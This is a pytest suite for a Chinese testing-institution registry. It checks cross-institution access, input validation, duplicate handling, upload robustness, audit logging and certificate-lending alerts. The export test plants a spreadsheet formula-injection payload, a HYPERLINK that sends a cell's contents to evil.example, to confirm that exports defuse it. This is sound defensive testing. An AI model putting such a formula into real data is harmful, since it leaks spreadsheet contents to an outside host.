"""Cases a review found: scope of form choices, reused ids, overflowing numbers, duplicates,
hostile uploads and exports, and the rules' edges."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from jcjg.alerts.engine import run_rule
from jcjg.alerts.models import Alert
from jcjg.audit.models import AuditLog
from jcjg.auth.choices import Role
from jcjg.core.db import utcnow
from jcjg.core.workdays import beijing_date
from jcjg.registry import models as m
from tests.factories import id_number, login, page_csrf, registry_row


def _today() -> dt.date:
    """Today in Beijing, when the test runs (a run may cross midnight after collection)."""
    return beijing_date(utcnow())


def _auth(factory, user):
    return {"Authorization": f"Bearer {factory.token(user)}"}


def test_new_form_offers_no_choices_from_another_institution(browser_client, db, factory):
    mine, theirs = factory.institution(), factory.institution()
    secret = registry_row(factory, "people", theirs)
    secret.name = "别家的员工"
    db.commit()
    admin = factory.user(Role.INSTITUTION_ADMIN, institution=mine)
    login(browser_client, admin.username)
    page = browser_client.get(f"/registry/trainings/new?institution_id={theirs.id}")
    assert page.status_code == 200
    assert "别家的员工" not in page.text
    failed = browser_client.post(
        "/registry/trainings",
        data={"csrf_token": page_csrf(browser_client), "institution_id": theirs.id},
    )
    assert failed.status_code == 422
    assert "别家的员工" not in failed.text


def test_history_shows_only_this_records_life(browser_client, db, factory):
    a, b = factory.institution(), factory.institution()
    gone = registry_row(factory, "labs", a)
    gone.name = "甲机构已删除的场所"
    db.flush()
    old_id = gone.id
    db.delete(gone)
    db.commit()
    reused = m.Lab(
        id=old_id, name="乙机构场所", address="x", area_m2=1,
        institution_id=b.id, region_code=b.region_code,
    )  # fmt: skip
    db.add(reused)
    db.commit()
    admin = factory.user(Role.INSTITUTION_ADMIN, institution=b)
    login(browser_client, admin.username)
    history = browser_client.get(f"/registry/labs/{old_id}/history")
    assert history.status_code == 200
    assert "甲机构已删除的场所" not in history.text
    assert "乙机构场所" in history.text


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("registered_capital", "1e30"),
        ("registered_capital", "1e15"),
        ("technical_staff_count", 2**40),
        ("technical_staff_count", [1]),
        ("investors", "甲:NaN"),
        ("name", ["甲", "乙"]),
        ("name", {"x": 1}),
        ("founded_date", 2010.5),
    ],
)
def test_hostile_values_are_422_not_500(client, db, factory, field, value):
    city = factory.user(Role.CITY_AUTHORITY, region_code="360400")
    body = {"name": "某检测公司", "credit_code": "91350100M000100Y43", "region_code": "360403"}
    response = client.post(
        "/api/v1/registry/institutions", json={**body, field: value}, headers=_auth(factory, city)
    )
    assert response.status_code == 422, response.text
    assert field in {e["field"] for e in response.json()["errors"]}


def test_ids_must_be_real_ids(client, factory):
    inst = factory.institution()
    admin = factory.user(Role.INSTITUTION_ADMIN, institution=inst)
    for bad in (True, 1.7, 10**30, -1):
        response = client.post(
            "/api/v1/registry/people",
            json={"institution_id": inst.id, "name": "x", "id_number": id_number(3),
                  "title": "junior", "years_in_testing": 1, "lab_id": bad},
            headers=_auth(factory, admin),
        )  # fmt: skip
        assert response.status_code == 422, bad
    huge = client.post(
        "/api/v1/registry/labs",
        json={"institution_id": 10**30, "name": "x", "address": "y", "area_m2": 1},
        headers=_auth(factory, admin),
    )
    assert huge.status_code == 422


def test_duplicates_and_referenced_deletes_are_409(client, db, factory):
    inst = factory.institution()
    admin = factory.user(Role.INSTITUTION_ADMIN, institution=inst)
    headers = _auth(factory, admin)
    cert = {
        "institution_id": inst.id, "number": "D360403-DUP", "issued_by": "江西省住建厅",
        "issue_date": "2024-01-01", "valid_until": "2029-01-01",
    }  # fmt: skip
    assert (
        client.post("/api/v1/registry/certificates", json=cert, headers=headers).status_code == 201
    )
    again = client.post("/api/v1/registry/certificates", json=cert, headers=headers)
    assert again.status_code == 409
    assert again.json()["errors"][0]["field"] == "number"
    cap = registry_row(factory, "capabilities", inst)
    db.commit()
    duplicate = client.post(
        "/api/v1/registry/capabilities",
        json={"institution_id": inst.id, "lab_id": cap.lab_id, "parameter_id": cap.parameter_id},
        headers=headers,
    )
    assert duplicate.status_code == 409
    busy = client.delete(f"/api/v1/registry/labs/{cap.lab_id}", headers=headers)
    assert busy.status_code == 409
    assert "仍被其他记录引用" in busy.json()["detail"]
    assert db.get(m.Lab, cap.lab_id) is not None


def _upload(client, name: str, data: bytes):
    token = page_csrf(client, "/registry/labs/import")
    return client.post(
        "/registry/labs/import",
        data={"csrf_token": token},
        files={"file": (name, data, "application/octet-stream")},
    )


def test_hostile_uploads_are_400(browser_client, db, factory):
    inst = factory.institution()
    admin = factory.user(Role.INSTITUTION_ADMIN, institution=inst)
    db.commit()
    login(browser_client, admin.username)
    long_cell = ("机构编号,场所名称\n" + inst.code + ',"' + "长" * 200_000 + '"\n').encode()
    assert _upload(browser_client, "labs.csv", long_cell).status_code in (400, 422)
    book = Workbook()
    book.active.append(["机构编号", "场所名称"])
    buffer = io.BytesIO()
    book.save(buffer)
    damaged = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src,
        zipfile.ZipFile(damaged, "w") as dst,
    ):
        for item in src.infolist():
            content = src.read(item.filename)
            if item.filename.endswith("sheet1.xml"):
                content = content[: len(content) // 2]  # truncated XML
            dst.writestr(item, content)
    response = _upload(browser_client, "labs.xlsx", damaged.getvalue())
    assert response.status_code == 400
    assert "无法读取 xlsx" in response.text


def test_exports_never_carry_formulas(browser_client, db, factory):
    inst = factory.institution()
    lab = registry_row(factory, "labs", inst)
    lab.name = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
    db.commit()
    admin = factory.user(Role.INSTITUTION_ADMIN, institution=inst)
    login(browser_client, admin.username)
    xlsx = browser_client.get("/registry/labs/export?format=xlsx")
    cell = load_workbook(io.BytesIO(xlsx.content)).active["B2"]
    assert cell.data_type == "s"
    assert cell.value.startswith("'=")
    csv_text = browser_client.get("/registry/labs/export?format=csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text


def test_a_denied_institution_registration_is_audited(browser_client, db, factory):
    admin = factory.user(Role.INSTITUTION_ADMIN)
    login(browser_client, admin.username)
    response = browser_client.post(
        "/registry/institutions",
        data={"csrf_token": page_csrf(browser_client), "name": "x", "credit_code": "y"},
    )
    assert response.status_code == 403
    assert db.scalar(select(func.count()).select_from(AuditLog).where(AuditLog.action == "denied"))


def test_lending_is_seen_from_both_sides_on_write(client, db, factory):
    a, b = factory.institution(), factory.institution()
    person = registry_row(factory, "people", a)
    db.commit()
    admin_b = factory.user(Role.INSTITUTION_ADMIN, institution=b)
    body = {"institution_id": b.id, "name": person.name, "id_number": person.id_number,
            "title": "junior", "years_in_testing": 2}  # fmt: skip
    assert (
        client.post(
            "/api/v1/registry/people", json=body, headers=_auth(factory, admin_b)
        ).status_code
        == 201
    )
    open_for = set(
        db.scalars(
            select(Alert.institution_id).where(
                Alert.rule_id == "certificate_lending", Alert.status == "open"
            )
        )
    )
    assert {a.id, b.id} <= open_for


def test_a_transfer_is_not_lending(db, factory):
    a, b = factory.institution(), factory.institution()
    leaving = registry_row(factory, "people", a)
    leaving.employed_until = _today() + dt.timedelta(days=10)
    arriving = m.Person(
        name=leaving.name, id_number=leaving.id_number, title="junior",
        employed_from=_today() + dt.timedelta(days=11), institution_id=b.id,
        region_code=b.region_code,
    )  # fmt: skip
    db.add(arriving)
    db.flush()
    run_rule(db, "certificate_lending")
    assert not db.scalars(
        select(Alert).where(Alert.rule_id == "certificate_lending", Alert.status == "open",
                            Alert.institution_id.in_([a.id, b.id]))
    ).all()  # fmt: skip


def test_thresholds_have_an_upper_bound(client, factory):
    province = factory.user(Role.PROVINCIAL_AUTHORITY, region_code="360000")
    response = client.put(
        "/api/v1/rules/calibration_expired/thresholds/360000",
        json={"grace_days": 10_000_000},
        headers=_auth(factory, province),
    )
    assert response.status_code == 422


def test_rows_name_their_institution_by_code_too(client, db, factory):
    """A LIMS knows its institution by its code (机构编号, as in imports and the exchange): the
    API takes ``institution_code`` in place of ``institution_id``; another institution's code,
    or an unknown one, is refused on that field."""
    mine, theirs = factory.institution(), factory.institution()
    admin = factory.user(Role.INSTITUTION_ADMIN, institution=mine)
    headers = _auth(factory, admin)
    db.commit()
    cert = {
        "number": "D360403-CODE", "issued_by": "江西省住建厅",
        "issue_date": "2024-01-01", "valid_until": "2029-01-01",
    }  # fmt: skip
    made = client.post(
        "/api/v1/registry/certificates",
        json={**cert, "institution_code": mine.code},
        headers=headers,
    )
    assert made.status_code == 201, made.text
    assert made.json()["institution_id"] == mine.id
    for code in (theirs.code, "NO-SUCH-CODE"):
        refused = client.post(
            "/api/v1/registry/certificates",
            json={**cert, "number": f"D-{code}", "institution_code": code},
            headers=headers,
        )
        assert refused.status_code == 422
        assert refused.headers["content-type"].startswith("application/problem+json")
        assert refused.json()["errors"][0]["field"] == "institution_code"
        assert "机构编号" in refused.json()["errors"][0]["message"]
    neither = client.post("/api/v1/registry/certificates", json=cert, headers=headers)
    assert neither.status_code == 422
    assert neither.json()["errors"][0]["field"] == "institution_id"
